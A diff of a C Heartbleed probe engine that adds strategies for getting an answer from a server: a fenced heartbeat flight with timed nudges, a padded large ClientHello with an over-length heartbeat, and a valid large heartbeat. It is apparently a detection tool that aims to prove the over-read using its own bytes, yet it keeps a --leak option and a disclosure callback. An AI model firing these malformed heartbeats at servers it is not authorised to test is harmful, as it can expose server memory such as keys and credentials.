@@ -1,6 +1,6 @@
 /*
- * The probe engine.  See probe.h for the contract and DESIGN.md "The
- * probe" for the algorithm.
+ * The probe engine.  See probe.h for the contract and docs/probe.md for
+ * the server behaviour each strategy answers.
  */
 #include "probe/probe.h"
 
@@ -13,10 +13,23 @@
 #include "tls/hello.h"
 #include "tls/tls.h"
 
-/* FACTS.md item 5: sizes observed to work on real 1.0.1f and 1.0.1g. */
+/* Sizes observed to work on real 1.0.1f and 1.0.1g (docs/probe.md). */
 #define SENTINEL_LEN 64
 #define PROBE_LEN 32
 #define PROBE_K 16
+/* With read-ahead the over-read runs into the fence: a body of k - 5
+ * bytes or more keeps those bytes ours. */
+#define FENCE_LEN 16
+/* The large strategy: a reply of 3 + 4100 + k + 16 bytes overflows the
+ * 4 KiB handshake write buffer, so it leaves before the program closes;
+ * the padded hello (a 4,501-byte record) lies stale under the probe. */
+#define LARGE_LEN 4100
+#define LARGE_HELLO 4501
+/* Nudges: one record per arrival is all an event-driven program with
+ * read-ahead processes, and the flight is three records. */
+#define NUDGE_MS 20
+#define NUDGE_MAX_MS 500
+#define NUDGE_MAX 12
 /* No real ServerHello comes near this; a larger one is hostile. */
 #define SH_MAX 4096
 
@@ -45,14 +58,43 @@ int probe_verdict_untested(enum probe_verdict v)
 
 static const char *const state_names[] = { "idle", "hello", "flight",
 	"done" };
+static const char *const strategy_names[] = { "flight", "large-record",
+	"large-record" };
+
+const char *probe_strategy_name(const struct probe *p)
+{
+	if (p->strategy == PST_FLIGHT && p->nudged)
+		return "nudge";
+	return p->strategy < sizeof(strategy_names) / sizeof(*strategy_names) ?
+	    strategy_names[p->strategy] : "unknown";
+}
+
+static void trace(const struct probe *p, const char *fmt, ...)
+    __attribute__((format(printf, 2, 3)));
+
+static void trace(const struct probe *p, const char *fmt, ...)
+{
+	va_list ap;
+
+	if (!p->cfg->trace)
+		return;
+	fprintf(stderr, "probe %p: ", (const void *)p);
+	va_start(ap, fmt);
+	vfprintf(stderr, fmt, ap);
+	va_end(ap);
+	fputc('\n', stderr);
+}
 
 /* Always change state here, so a trace shows every transition. */
 static void probe_set_state(struct probe *p, enum probe_state s)
 {
-	if (p->cfg->trace)
-		fprintf(stderr, "probe %p: %s -> %s\n", (void *)p,
-		    state_names[p->state], state_names[s]);
+	trace(p, "%s -> %s", state_names[p->state], state_names[s]);
 	p->state = (uint8_t)s;
+}
+
+void probe_clock(struct probe *p, uint64_t now_ms)
+{
+	p->now_ms = now_ms;
 }
 
 void probe_init(struct probe *p, const struct probe_cfg *cfg, uint64_t nonce)
@@ -64,8 +106,8 @@ void probe_init(struct probe *p, const struct probe_cfg *cfg, uint64_t nonce)
 	p->sni_on = cfg->sni != NULL && cfg->sni[0] != '\0';
 	p->alert_desc = -1;
 	p->verdict = PV_INCONCLUSIVE;
-	if (hb_plan_init(&p->plan, nonce, SENTINEL_LEN, PROBE_LEN,
-	    cfg->leak ? cfg->leak : PROBE_K) != 0)
+	p->strategy = PST_FLIGHT;
+	if ((uint32_t)PROBE_LEN + (cfg->leak ? cfg->leak : PROBE_K) > 0xffff)
 		probe_finish(p, PV_INCONCLUSIVE, "internal: --leak too large "
 		    "for one heartbeat");
 }
@@ -114,6 +156,38 @@ static void reconnect(struct probe *p, struct probe_out *o)
 	o->reconnect = 1;
 }
 
+static uint8_t pad_byte(const void *ctx, size_t i)
+{
+	return hb_payload_byte(ctx, 2, i);
+}
+
+/* The heartbeat plan of this connection's strategy.  Each connection draws
+ * fresh bytes, so a late echo from an earlier one matches nothing. */
+static int plan_strategy(struct probe *p)
+{
+	uint16_t k = p->cfg->leak ? p->cfg->leak : PROBE_K;
+	uint64_t nonce = p->nonce + 0x9e3779b97f4a7c15ULL * p->attempts;
+	int r;
+
+	switch (p->strategy) {
+	case PST_LARGE:
+		/* --leak's largest claims shrink here to what one heartbeat
+		 * can frame. */
+		if ((uint32_t)LARGE_LEN + k > 0xffff)
+			k = (uint16_t)(0xffff - LARGE_LEN);
+		r = hb_plan_init(&p->plan, nonce, 0, LARGE_LEN, k);
+		break;
+	case PST_VALID:
+		r = hb_plan_init(&p->plan, nonce, LARGE_LEN, 0, 0);
+		break;
+	default:
+		r = hb_plan_init(&p->plan, nonce, SENTINEL_LEN, PROBE_LEN, k);
+		p->plan.fence_len = FENCE_LEN;
+		break;
+	}
+	return r;
+}
+
 void probe_on_connected(struct probe *p, struct probe_out *o)
 {
 	struct client_hello_opts ch;
@@ -123,6 +197,11 @@ void probe_on_connected(struct probe *p, struct probe_out *o)
 
 	rec_stream_init(&p->rs, 0);
 	hs_walker_init(&p->hw);
+	if (plan_strategy(p) != 0) {
+		finish_fmt(p, o, PV_INCONCLUSIVE, "internal: heartbeat plan "
+		    "does not fit");
+		return;
+	}
 	hb_reader_init(&p->hb, &p->plan);
 	p->hb.on_disclosed = p->cfg->on_disclosed;
 	p->hb.ctx = p->cfg->ctx;
@@ -130,6 +209,7 @@ void probe_on_connected(struct probe *p, struct probe_out *o)
 	p->alert_have = 0;
 	p->sh_seen = 0;
 	p->ext_echoed = 0;
+	p->nudged = 0;
 	/* Report only what this connection negotiated. */
 	p->version = 0;
 	p->sample_have = 0;
@@ -151,14 +231,35 @@ void probe_on_connected(struct probe *p, struct probe_out *o)
 		ch.sni = NULL;
 		n = client_hello_build(&ch, o->buf + o->len, o->cap - o->len);
 	}
+	if (n >= 0 && p->strategy == PST_LARGE) {
+		/* Pad the hello to a fixed record length with our bytes: the
+		 * probe is read over it, so its over-read finds them. */
+		ch.pad_len = (uint16_t)(n + 4 < LARGE_HELLO ?
+		    LARGE_HELLO - n - 4 : 0);
+		ch.pad_byte = pad_byte;
+		ch.pad_ctx = &p->plan;
+		n = ch.pad_len ? client_hello_build(&ch, o->buf + o->len,
+		    o->cap - o->len) : -1;
+		if (n >= 0) {
+			p->plan.pad_len = ch.pad_len;
+			p->plan.pad_at = (uint16_t)(n - ch.pad_len);
+		}
+	}
 	if (n < 0) {
 		finish_fmt(p, o, PV_INCONCLUSIVE, "internal: ClientHello "
 		    "does not fit");
 		return;
 	}
 	o->len += (size_t)n;
+	p->hello_ms = p->now_ms;
 	probe_set_state(p, PS_HELLO);
 }
+
+static const char *const proof_words[HB_TAIL_MODELS] = {
+	[HB_TAIL_STALE] = "our own stale sentinel bytes",
+	[HB_TAIL_FOLLOW] = "our own fence record, read ahead behind it",
+	[HB_TAIL_HELLO] = "our own stale ClientHello bytes",
+};
 
 static void finish_flight(struct probe *p, struct probe_out *o,
     const char *extra)
@@ -173,6 +274,21 @@ static void finish_flight(struct probe *p, struct probe_out *o,
 	v = reply_judge(&s, p->ext_echoed);
 	reply_reason(&s, p->ext_echoed, why, sizeof(why));
 	p->disclosed = s.disclosed;
+	p->nudged = p->strategy == PST_FLIGHT && p->nudges > 0;
+	if (v == HBV_VULNERABLE && s.disclosed == 0) {
+		finish_fmt(p, o, PV_VULNERABLE, "heartbeat over-read proven: "
+		    "the probe came back with %s (0 bytes of server memory "
+		    "disclosed)", proof_words[p->hb.proof_model %
+		    HB_TAIL_MODELS]);
+		return;
+	}
+	if (v == HBV_PATCHED && p->strategy == PST_VALID &&
+	    s.sentinel_echoed) {
+		finish_fmt(p, o, PV_PATCHED, "the server program closes on the "
+		    "first heartbeat: an over-length one went unanswered, a "
+		    "valid one of the same size was echoed");
+		return;
+	}
 	/* Extension 15 alone proves nothing until the server refuses the
 	 * heartbeat with an alert (GnuTLS) or echoes the sentinel (1.0.1g):
 	 * a close, a reset or garbage is no answer at all. */
@@ -198,18 +314,105 @@ static void finish_flight(struct probe *p, struct probe_out *o,
 	}
 }
 
+/* Nothing at all came back to this connection's heartbeats. */
+static int flight_unanswered(const struct probe *p)
+{
+	return p->hb.messages == 0 && p->hb.hdr_have == 0 &&
+	    !p->hb.foreign && p->alert_desc < 0;
+}
+
+/* Spacing of nudges: about one round trip, so each arrives on its own. */
+static unsigned nudge_gap(const struct probe *p)
+{
+	unsigned g = p->rtt_ms;
+
+	if (g < NUDGE_MS)
+		g = NUDGE_MS;
+	if (g > NUDGE_MAX_MS)
+		g = NUDGE_MAX_MS;
+	return g;
+}
+
+/*
+ * The connection closed with nothing sent back, as a program that gives up
+ * on the first "want read" does: its buffered replies die with it.  Climb
+ * to the next strategy, or say what was tried.
+ */
+static void next_strategy(struct probe *p, struct probe_out *o)
+{
+	switch (p->strategy) {
+	case PST_FLIGHT:
+		p->strategy = PST_LARGE;
+		break;
+	case PST_LARGE:
+		p->strategy = PST_VALID;
+		break;
+	default:
+		finish_fmt(p, o, PV_INCONCLUSIVE, "no heartbeat was answered "
+		    "in any strategy: the flight (%u nudges), a large first "
+		    "record and a valid large heartbeat each got a close and "
+		    "nothing else", p->nudges);
+		return;
+	}
+	trace(p, "nothing came back: strategy %s", strategy_names[p->strategy]);
+	p->attempts++;
+	probe_set_state(p, PS_IDLE);
+	o->reconnect = 1;
+}
+
 static void send_flight(struct probe *p, struct probe_out *o)
 {
-	ssize_t n = hb_flight_tls(&p->plan, p->version, 1, o->buf + o->len,
-	    o->cap - o->len);
+	uint8_t *w = o->buf + o->len;
+	size_t cap = o->cap - o->len;
+	ssize_t n;
 
+	p->plan.rec_ver = p->version;
+	switch (p->strategy) {
+	case PST_LARGE:
+		n = hb_request_record(&p->plan, 1, p->version,
+		    (uint16_t)(p->plan.probe_len + p->plan.k), 0, w, cap);
+		break;
+	case PST_VALID:
+		n = hb_request_record(&p->plan, 0, p->version,
+		    p->plan.sentinel_len, HB_MIN_PADDING, w, cap);
+		break;
+	default:
+		n = hb_flight_tls(&p->plan, p->version, 1, w, cap);
+		break;
+	}
 	if (n < 0) {
 		finish_fmt(p, o, PV_INCONCLUSIVE, "internal: heartbeat flight "
 		    "does not fit");
 		return;
 	}
 	o->len += (size_t)n;
+	if (p->now_ms >= p->hello_ms)
+		p->rtt_ms = (uint16_t)(p->now_ms - p->hello_ms > 60000 ? 60000 :
+		    p->now_ms - p->hello_ms);
 	probe_set_state(p, PS_FLIGHT);
+	/* Only the flight is nudged: a nudge that lands unread at a program
+	 * about to close turns its close into a reset, which may cost the
+	 * large reply that is the whole point of the large strategy. */
+	if (p->strategy == PST_FLIGHT)
+		o->wake_ms = nudge_gap(p);
+}
+
+void probe_on_wake(struct probe *p, struct probe_out *o)
+{
+	ssize_t n;
+
+	if (p->state != PS_FLIGHT || p->strategy != PST_FLIGHT ||
+	    p->nudges >= NUDGE_MAX)
+		return;
+	n = hb_appdata_record(&p->plan, p->version, 1, o->buf + o->len,
+	    o->cap - o->len);
+	if (n < 0)
+		return;
+	o->len += (size_t)n;
+	p->nudges++;
+	trace(p, "nudge %u", p->nudges);
+	if (p->nudges < NUDGE_MAX)
+		o->wake_ms = nudge_gap(p);
 }
 
 static int fallback_alert(unsigned desc)
@@ -243,6 +446,16 @@ static void on_alert(struct probe *p, struct probe_out *o)
 		if (p->alert_desc < 0)
 			p->alert_desc = (int)desc;
 		finish_flight(p, o, "");
+		return;
+	}
+	if (p->strategy != PST_FLIGHT) {
+		/* The flight's hello was accepted: this one's size is what
+		 * the server refuses, and no fallback mends that. */
+		p->alert_desc = (int)desc;
+		finish_fmt(p, o, PV_INCONCLUSIVE, "the flight got no answer, "
+		    "and the %s ClientHello was refused with alert %u (%s)",
+		    p->strategy == PST_LARGE ? "padded" : "next", desc,
+		    name ? name : "unknown");
 		return;
 	}
 	if (desc == 112 && p->sni_on) {
@@ -403,8 +616,11 @@ void probe_on_data(struct probe *p, const uint8_t *b, size_t n,
 			case TLS_CT_HEARTBEAT:
 				if (hb_reader_feed(&p->hb, data, dlen) != 0)
 					p->hb.foreign = 1;
-				/* The echo is the proof: no need to wait. */
-				if (p->state == PS_FLIGHT && p->hb.probe_echoed)
+				/* The echo is the proof: no need to wait.  A
+				 * lone valid heartbeat's echo is the answer. */
+				if (p->state == PS_FLIGHT && (p->hb.probe_echoed ||
+				    (p->strategy == PST_VALID &&
+				    p->hb.sentinel_echoed)))
 					finish_flight(p, o, "");
 				break;
 			default:
@@ -430,6 +646,13 @@ void probe_on_closed(struct probe *p, int err, struct probe_out *o)
 
 	switch (p->state) {
 	case PS_HELLO:
+		if (p->strategy != PST_FLIGHT) {
+			finish_fmt(p, o, PV_INCONCLUSIVE, "the flight got no "
+			    "answer, and the server %s during the %s "
+			    "handshake", how, p->strategy == PST_LARGE ?
+			    "padded" : "next");
+			return;
+		}
 		/* Version intolerance shows as a close with no reply. */
 		if (!p->got_bytes && lower_version(p->version_try)) {
 			p->version_try = lower_version(p->version_try);
@@ -442,6 +665,13 @@ void probe_on_closed(struct probe *p, int err, struct probe_out *o)
 		    p->got_bytes ? "" : ", no reply");
 		return;
 	case PS_FLIGHT:
+		/* Silence and a close: with extension 15 echoed, the program
+		 * may have dropped our replies with the connection. */
+		if (flight_unanswered(p) && (p->ext_echoed ||
+		    p->strategy != PST_FLIGHT)) {
+			next_strategy(p, o);
+			return;
+		}
 		finish_flight(p, o, "");
 		return;
 	default:
@@ -467,8 +697,11 @@ void probe_on_timeout(struct probe *p, struct probe_out *o)
 			finish_flight(p, o, "");
 			return;
 		}
-		finish_fmt(p, o, PV_TIMEOUT, "no answer to the heartbeat "
-		    "flight before the deadline");
+		finish_fmt(p, o, PV_TIMEOUT, "no answer to the %s before "
+		    "the deadline (%u nudges)", p->strategy == PST_FLIGHT ?
+		    "heartbeat flight" : p->strategy == PST_LARGE ?
+		    "large over-length heartbeat" : "valid large heartbeat",
+		    p->nudges);
 		return;
 	default:
 		return;
